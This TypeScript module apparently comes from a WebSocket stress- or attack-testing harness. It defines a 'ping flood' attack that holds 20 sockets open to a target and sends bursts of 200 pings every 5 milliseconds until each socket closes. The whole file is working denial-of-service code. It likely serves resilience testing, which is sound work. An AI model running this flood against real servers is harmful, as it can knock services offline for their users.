// Pings as fast as they go.

import { type Attack, holdSockets } from '../attack.ts'

export const pingFlood: Attack = {
  name: 'ping flood',
  run: (target) =>
    holdSockets(target, {
      count: 20,
      key: target.key,
      use(socket) {
        const flood = setInterval(() => {
          if (socket.readyState !== socket.OPEN) return clearInterval(flood)
          for (let count = 0; count < 200; count++) socket.ping('x'.repeat(100))
        }, 5)
        socket.once('close', () => clearInterval(flood))
      },
    }),
}
